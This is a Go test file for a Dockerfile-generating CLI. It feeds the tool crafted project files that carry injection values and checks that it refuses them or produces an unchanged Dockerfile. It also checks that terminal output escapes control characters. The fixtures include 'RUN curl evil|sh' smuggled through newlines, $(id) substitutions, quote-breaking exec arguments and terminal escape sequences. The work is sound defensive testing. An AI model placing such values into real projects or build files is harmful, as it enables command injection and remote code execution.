//go:build unix

package cli

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/dockerize-dev/dockerize/internal/testkit"
)

// with copies a project and changes some of its files.
func with(base map[string]string, changes map[string]string) map[string]string {
	m := maps.Clone(base)
	for k, v := range changes {
		if v == "" {
			delete(m, k)
			continue
		}
		m[k] = v
	}
	return m
}

// TestHostileProjectValues runs init over crafted projects, each a clean
// project with one value an attacker controls. Either the Dockerfile that
// comes out does exactly what the clean one does (same instructions,
// flags, argument and shell-word counts, as BuildKit reads it), or init
// refuses with an error that names the value, exits non-zero and writes
// nothing.
func TestHostileProjectValues(t *testing.T) {
	goMain := map[string]string{"go.mod": "module example.com/app\n\ngo 1.24.4\n", "cmd/api/main.go": "package main\n\nfunc main() {}\n"}
	goWork := map[string]string{
		"go.work": "go 1.24.4\n\nuse ./svc\n", "svc/go.mod": "module example.com/svc\n\ngo 1.24.4\n",
		"svc/main.go": "package main\n\nfunc main() {}\n",
	}
	goReplace := map[string]string{
		"go.mod":  "module example.com/app\n\ngo 1.24.4\n\nrequire example.com/lib v0.0.0\n\nreplace example.com/lib => ./lib\n",
		"main.go": "package main\n\nfunc main() {}\n", "lib/go.mod": "module example.com/lib\n\ngo 1.24.4\n",
	}
	pnpm := func(pm, start, extra string) map[string]string {
		return map[string]string{
			"package.json":   fmt.Sprintf(`{"name": "app", "packageManager": %q, "scripts": {"start": %q}%s}`, pm, start, extra),
			"pnpm-lock.yaml": "lockfileVersion: '9.0'\n", "server.js": "require('http').createServer().listen(3000)\n",
		}
	}
	nodeMain := func(main string) map[string]string {
		return map[string]string{
			"package.json":      fmt.Sprintf(`{"name": "app", "main": %q}`, main),
			"package-lock.json": `{"lockfileVersion": 3}`, "dist/server.js": "require('http').createServer().listen(3000)\n",
		}
	}
	nodeWS := func(dir string) map[string]string {
		return map[string]string{
			"package.json":        fmt.Sprintf(`{"name": "mono", "private": true, "workspaces": [%q]}`, dir),
			"package-lock.json":   `{"lockfileVersion": 3}`,
			dir + "/package.json": `{"name": "api", "scripts": {"start": "node server.js"}}`,
			dir + "/server.js":    "require('http').createServer().listen(3000)\n",
		}
	}
	nodeTS := func(outDir string) map[string]string {
		return map[string]string{
			"package.json":      `{"name": "app", "scripts": {"build": "tsc", "start": "node dist/server.js"}, "devDependencies": {"typescript": "5.7.2"}}`,
			"package-lock.json": `{"lockfileVersion": 3}`, "tsconfig.json": fmt.Sprintf(`{"compilerOptions": {"outDir": %q}}`, outDir),
			"src/server.ts": "require('http').createServer().listen(3000)\n",
		}
	}
	pom := func(artifact, build string) map[string]string {
		return map[string]string{"pom.xml": `<project><groupId>g</groupId><artifactId>` + artifact + `</artifactId><version>1</version>` +
			`<properties><maven.compiler.release>21</maven.compiler.release></properties><build>` + build +
			`<plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId><version>3.4.1</version></plugin></plugins></build></project>`}
	}
	reactor := func(dir string) map[string]string {
		return map[string]string{
			"pom.xml":        `<project><groupId>g</groupId><artifactId>shop</artifactId><version>1</version><packaging>pom</packaging><modules><module>` + dir + `</module></modules><properties><maven.compiler.release>21</maven.compiler.release></properties></project>`,
			dir + "/pom.xml": `<project><parent><groupId>g</groupId><artifactId>shop</artifactId><version>1</version></parent><artifactId>svc</artifactId><build><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId><version>3.4.1</version></plugin></plugins></build></project>`,
		}
	}
	plainJar := func(mainClass string) map[string]string {
		return map[string]string{"pom.xml": `<project><groupId>g</groupId><artifactId>app</artifactId><version>1</version>` +
			`<properties><maven.compiler.release>21</maven.compiler.release></properties><build><plugins><plugin>` +
			`<groupId>org.apache.maven.plugins</groupId><artifactId>maven-jar-plugin</artifactId><version>3.4.2</version>` +
			`<configuration><archive><manifest><mainClass>` + mainClass + `</mainClass></manifest></archive></configuration></plugin></plugins></build></project>`}
	}
	rustOwn := func(dockerfile string) map[string]string {
		return map[string]string{
			"Cargo.toml":        "[package]\nname = \"svc\"\nversion = \"0.1.0\"\n[features]\nsqlite = []\n",
			"Cargo.lock":        "version = 4\n\n[[package]]\nname = \"svc\"\nversion = \"0.1.0\"\n",
			"src/main.rs":       "fn main() { let a = std::env::var(\"SVC_ADDR\").unwrap(); let _ = std::net::TcpListener::bind(a); }\n",
			"docker/Dockerfile": dockerfile,
		}
	}
	long := strings.Repeat("a", 5000)

	cases := []struct {
		name           string
		clean, hostile map[string]string
		args           []string
	}{
		{"go main dir newline", goMain, with(goMain, map[string]string{"cmd/api/main.go": "", "cmd/api\nRUN curl evil|sh/main.go": "package main\n\nfunc main() {}\n"}), nil},
		{"go main dir command substitution", goMain, with(goMain, map[string]string{"cmd/api/main.go": "", "cmd/$(id)/main.go": "package main\n\nfunc main() {}\n"}), nil},
		{"go main dir quote and backslash", goMain, with(goMain, map[string]string{"cmd/api/main.go": "", "cmd/a\"\\b/main.go": "package main\n\nfunc main() {}\n"}), nil},
		{"go main dir line separator", goMain, with(goMain, map[string]string{"cmd/api/main.go": "", "cmd/a\u2028RUN id/main.go": "package main\n\nfunc main() {}\n"}), nil},
		{"go main dir very long", goMain, with(goMain, map[string]string{"cmd/api/main.go": "", "cmd/" + long[:250] + "/main.go": "package main\n\nfunc main() {}\n"}), nil},
		{"go module path", goMain, with(goMain, map[string]string{"go.mod": "module \"github.com/a/b\\\"\\nRUN id\"\n\ngo 1.24.4\n"}), nil},
		{"go.work use", goWork, map[string]string{
			"go.work": "go 1.24.4\n\nuse \"./s v&&id\"\n", "s v&&id/go.mod": "module example.com/svc\n\ngo 1.24.4\n",
			"s v&&id/main.go": "package main\n\nfunc main() {}\n",
		}, nil},
		{"go replace dir", goReplace, map[string]string{
			"go.mod":  "module example.com/app\n\ngo 1.24.4\n\nrequire example.com/lib v0.0.0\n\nreplace example.com/lib => \"./l`id`#\"\n",
			"main.go": "package main\n\nfunc main() {}\n", "l`id`#/go.mod": "module example.com/lib\n\ngo 1.24.4\n",
		}, nil},
		{"packageManager newline", pnpm("pnpm@9.15.9", "node server.js", ""), pnpm("pnpm@9.15.9\nRUN curl evil|sh", "node server.js", ""), nil},
		{"packageManager substitution", pnpm("pnpm@9.15.9", "node server.js", ""), pnpm("pnpm@9.15.9 $(id)", "node server.js", ""), nil},
		{"start adds exec arguments", pnpm("pnpm@9.15.9", "node server.js", ""), pnpm("pnpm@9.15.9", `node x","-e","require('child_process').execSync('id')`, ""), nil},
		{"main with backslashes", nodeMain("dist/server.js"), nodeMain(`.\dist\server.js`), nil},
		{"main with a unicode line separator", nodeMain("dist/server.js"), nodeMain("dist/server.js\u2028RUN id"), nil},
		{"workspace dir", nodeWS("packages/api"), nodeWS("packages/api;$(x)"), nil},
		{"tsconfig outDir", nodeTS("dist"), nodeTS("dist && id"), nil},
		{"package name", pnpm("pnpm@9.15.9", "node server.js", ""), with(pnpm("pnpm@9.15.9", "node server.js", ""), map[string]string{
			"package.json": `{"name": "a\u001b[31m\"$(id)` + "`x`" + `#\\", "packageManager": "pnpm@9.15.9", "scripts": {"start": "node server.js"}}`,
		}), nil},
		{".dockerize.yaml start", pnpm("pnpm@9.15.9", "node server.js", ""), with(pnpm("pnpm@9.15.9", "node server.js", ""), map[string]string{".dockerize.yaml": "start: \"server.js\\\"]\\nRUN id #\"\n"}), nil},
		{"--package-manager", pnpm("pnpm@9.15.9", "node server.js", ""), pnpm("pnpm@9.15.9", "node server.js", ""), []string{"--package-manager", "pnpm@9.15.9 && id"}},
		{".nvmrc", nodeMain("dist/server.js"), with(nodeMain("dist/server.js"), map[string]string{".nvmrc": "22$(id)\n"}), nil},
		{"java release", pom("app", ""), map[string]string{"pom.xml": strings.Replace(pom("app", "")["pom.xml"], "<maven.compiler.release>21<", "<maven.compiler.release>21 $(id)<", 1)}, nil},
		{"--start", pnpm("pnpm@9.15.9", "node server.js", ""), pnpm("pnpm@9.15.9", "node server.js", ""), []string{"--start", "server.js\"]\nRUN id #"}},
		{"maven finalName", pom("app", ""), pom("app", "<finalName>app$(id)</finalName>"), nil},
		{"maven finalName newline", pom("app", ""), pom("app", "<finalName>app&#10;RUN id</finalName>"), nil},
		{"maven artifactId", pom("app", ""), pom("app&amp;&amp;id`x`", ""), nil},
		{"maven artifactId very long", pom("app", ""), pom(long, ""), nil},
		{"maven module dir", reactor("svc"), reactor("svc$(x)"), nil},
		{"maven mainClass", plainJar("org.example.Main"), plainJar("org.example.Main\"]\nRUN id #"), nil},
		{"rust own Dockerfile env", rustOwn("FROM rust\nRUN cargo build\nFROM scratch\nENV OTHER=1\n"), rustOwn("FROM rust\nRUN cargo build\nFROM scratch\nENV SVC_ADDR=\"0.0.0.0:80;id&&x\"\n"), nil},
		{"rust own Dockerfile features", rustOwn("FROM rust\nRUN cargo build\n"), rustOwn("FROM rust\nARG F=\"sqlite;curl evil|sh\"\nRUN cargo build --features $F\n"), nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			cleanDir := writeProject(t, c.clean)
			code, stderr := initWithin(t, append([]string{"init", cleanDir}, c.args[:0]...)...)
			if code != 0 {
				t.Fatalf("the clean project fails (exit %d): %s", code, stderr)
			}
			want := testkit.DockerfileShape(t, readFile(t, cleanDir, "Dockerfile"))

			dir := writeProject(t, c.hostile)
			code, stderr = initWithin(t, append([]string{"init", dir}, c.args...)...)
			if code != 0 {
				if strings.Contains(stderr, "panic") || !strings.HasPrefix(stderr, "error: ") {
					t.Errorf("exit %d without a clear error: %q", code, stderr)
				}
				if strings.ContainsAny(strings.TrimSpace(stderr), "\x1b\r\n\u2028") {
					t.Errorf("the error prints raw control characters or runs over lines: %q", stderr)
				}
				noOutput(t, dir)
				t.Logf("refused (exit %d): %s", code, stderr)
				return
			}
			got := readFile(t, dir, "Dockerfile")
			if g := testkit.DockerfileShape(t, got); !slices.Equal(g, want) {
				t.Errorf("the hostile value changed what the Dockerfile does:\n got %q\nwant %q\n%s", g, want, got)
			}
		})
	}
}

func readFile(t *testing.T, dir, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestTerminalOutputEscapesProjectText: names and evidence from the project
// reach the terminal (detect's table, init's decisions, errors) with their
// control characters shown as escapes, never sent to the terminal raw.
func TestTerminalOutputEscapesProjectText(t *testing.T) {
	dir := writeProject(t, map[string]string{
		"go.mod":                        "module example.com/app\n\ngo 1.24.4\n",
		"cmd/a\x1b]0;owned\x07/main.go": "package main\n\nfunc main() {}\n",
	})
	for _, args := range [][]string{{"detect", dir}} {
		code, stdout, stderr := runIn(args...)
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", args[0], code, stderr)
		}
		if strings.ContainsAny(stdout+stderr, "\x1b\x07") {
			t.Errorf("%s printed raw control characters:\n%q", args[0], stdout+stderr)
		}
		if args[0] == "detect" && !strings.Contains(stdout, `\x1b]0;owned`) {
			t.Errorf("%s does not show the name's escapes:\n%s", args[0], stdout+stderr)
		}
	}
	code, _, stderr := runIn("init", writeProject(t, map[string]string{"package.json": "{\"name\": \"a\", \"packageManager\": \"pnpm@1.0.0\\u001b[2J\"}", "pnpm-lock.yaml": "x: 1\n"}))
	if code == 0 || strings.Contains(stderr, "\x1b") {
		t.Errorf("exit %d, error with raw ESC: %q", code, stderr)
	}
}
